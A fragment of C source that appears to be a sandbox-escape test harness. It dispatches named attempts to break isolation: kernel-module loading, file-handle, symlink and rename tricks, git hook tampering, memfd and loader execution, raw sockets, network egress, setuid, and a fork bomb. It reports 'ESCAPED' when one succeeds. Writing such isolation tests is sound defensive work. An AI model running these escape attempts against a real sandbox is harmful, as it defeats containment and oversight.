    if (!strcmp(a, "finit_module")) {
        int fd = open("/proc/self/exe", O_RDONLY | O_CLOEXEC);
        return expect_fail(syscall(SYS_finit_module, fd, "", 0), "finit_module");
    }
    if (!strcmp(a, "open_by_handle_at")) return attack_open_by_handle();
    if (!strcmp(a, "name_to_handle_at")) return attack_name_to_handle();
    if (!strcmp(a, "read")) return expect_unreadable(arg);
    if (!strcmp(a, "write")) return expect_unwritable(arg, O_TRUNC);
    if (!strcmp(a, "append")) return expect_unwritable(arg, O_APPEND);
    if (!strcmp(a, "git-rename")) return attack_git_rename();
    if (!strcmp(a, "git-hooks-rename")) return attack_git_hooks_rename();
    if (!strcmp(a, "git-config-replace")) return attack_git_unlink_config();
    if (!strcmp(a, "symlink")) return attack_symlink(arg);
    if (!strcmp(a, "hardlink")) return attack_hardlink(arg);
    if (!strcmp(a, "rename-out")) return attack_rename_out(arg);
    if (!strcmp(a, "rename-in")) return attack_rename_in(arg);
    if (!strcmp(a, "memfd-exec")) return attack_memfd_exec();
    if (!strcmp(a, "memfd-exec-flag")) return attack_memfd_exec_flag();
    if (!strcmp(a, "exec-fd")) {
        static char dst[4096];
        // The run's fresh home: writable, never executable (${tmp} is exec for building identities).
        snprintf(dst, sizeof dst, "%s/copy-fd", getenv("HOME") ? getenv("HOME") : "/tmp");
        return attack_exec_fd(dst);
    }
    if (!strcmp(a, "ldso")) {
        // Default target: $HOME/copy (the run's fresh home: read and write, never exec; the
        // default policy lets ${tmp} exec, for go test and Rust doctests).
        static char dst[4096];
        snprintf(dst, sizeof dst, "%s/copy", getenv("HOME") ? getenv("HOME") : "/tmp");
        return attack_ldso(*arg ? arg : dst);
    }
    if (!strcmp(a, "fds")) return attack_fds();
    if (!strcmp(a, "unix-abstract")) return attack_unix(arg, 1);
    if (!strcmp(a, "unix-path")) return attack_unix(arg, 0);
    if (!strcmp(a, "unix-race")) return attack_unix_race(arg, argc > 3 ? argv[3] : "");
    if (!strcmp(a, "tcp-host")) return attack_tcp(arg);
    if (!strcmp(a, "tcp6-mapped")) return attack_tcp6_mapped(arg);
    if (!strcmp(a, "raw-socket")) return expect_fail(socket(AF_INET, SOCK_RAW, IPPROTO_ICMP), "socket(AF_INET, SOCK_RAW)");
    if (!strcmp(a, "packet-socket")) return expect_fail(socket(AF_PACKET, SOCK_RAW, htons(0x0003)), "socket(AF_PACKET)");
    if (!strcmp(a, "netlink-route")) return attack_netlink();
    if (!strcmp(a, "dns")) return attack_dns();
    if (!strcmp(a, "setuid")) return attack_setuid(arg);
    if (!strcmp(a, "ids")) return report_ids();
    if (!strcmp(a, "chown")) return expect_fail(chown(arg, 1234, 1234), "chown(root file)");
    if (!strcmp(a, "bind80")) return attack_bind80();
    if (!strcmp(a, "rlimit")) return attack_rlimit();
    if (!strcmp(a, "fork-bomb")) return attack_fork_bomb(*arg ? atoi(arg) : 1000);
    if (!strcmp(a, "chmod")) return expect_fail(chmod(arg, 0777), "chmod(file of another user)");
    if (!strcmp(a, "dac")) return expect_unreadable(arg);
    if (!strcmp(a, "threads")) return allowed_threads();
    if (!strcmp(a, "children")) return allowed_children_and_pipes();
    if (!strcmp(a, "toolchain")) return allowed_toolchain();
    if (!strcmp(a, "whoami")) return verdict("ESCAPED", "ran %s", argv[0]);
    fprintf(stderr, "escape: unknown attack %s\n", a);
    return 2;
}
